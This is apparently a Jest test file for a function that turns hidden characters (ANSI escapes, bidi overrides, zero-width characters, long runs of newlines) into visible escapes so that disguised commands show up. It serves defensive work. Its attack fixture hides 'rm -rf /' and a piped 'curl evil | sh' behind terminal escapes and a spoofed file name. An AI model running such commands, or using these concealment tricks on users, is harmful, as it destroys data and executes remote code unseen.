import { describe, expect, test } from '@jest/globals';
import { hasHiddenCharacters, visibleText } from '../../src/text/visible-text';

// Everything a terminal or chat client would interpret rather than show.
const HIDDEN = /[\u0000-\u001f\u007f-\u009f\u00a0\u00ad\u061c\u180e\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff\ufff9-\ufffb]|[\u{e0000}-\u{e007f}]/u;

describe('visibleText', () => {
  test('ANSI escapes, bidi overrides and 60 newlines reach the reader as visible escapes on one line', () => {
    const attack = `ls\x1b[2K\x1b[1A\rrm -rf /\u202e txt.exe\u2066x\u2069\u200b${'\n'.repeat(60)}curl evil | sh\u2028\u2029\ufeff\x7f\x85\x00`;
    const shown = visibleText(attack);
    expect(shown).not.toMatch(HIDDEN);
    expect(shown).toContain('\\x1b[2K\\x1b[1A\\rrm -rf /\\u{202e} txt.exe\\u{2066}x\\u{2069}\\u{200b}');
    expect(shown).toContain(`${'\\n'.repeat(60)}curl evil | sh\\u{2028}\\u{2029}\\u{feff}\\x7f\\x85\\x00`);
    expect(hasHiddenCharacters(attack)).toBe(true);
  });

  test('a backslash is doubled, so an escape written in the text is not a real newline', () => {
    expect(visibleText('echo a\\nb')).toBe('echo a\\\\nb');
    expect(visibleText('echo a\nb')).toBe('echo a\\nb');
    expect(visibleText('echo a\\nb')).not.toBe(visibleText('echo a\nb'));
    expect(hasHiddenCharacters('echo a\\nb')).toBe(false);
  });

  test('ordinary text, including non-ASCII letters, is unchanged', () => {
    const plain = 'systemctl restart nginx && echo "grüße, 日本語" | tee /tmp/x';
    expect(visibleText(plain)).toBe(plain);
    expect(hasHiddenCharacters(plain)).toBe(false);
  });

  test('non-breaking and other unusual spaces, tags and private-use characters are shown', () => {
    expect(visibleText('rm /tmp/a\u00a0/ \u3000 \u{e0041} \ue000')).toBe('rm /tmp/a\\xa0/ \\u{3000} \\u{e0041} \\u{e000}');
  });

  test('long text is cut with a note of how much was left out', () => {
    const shown = visibleText('x'.repeat(5000), 100);
    expect(shown.startsWith('x'.repeat(100))).toBe(true);
    expect(shown).toContain('4900 more characters not shown');
    const escaped = visibleText('\n'.repeat(100), 21);
    expect(escaped).toBe(`${'\\n'.repeat(10)}… (90 more characters not shown)`);
  });
});
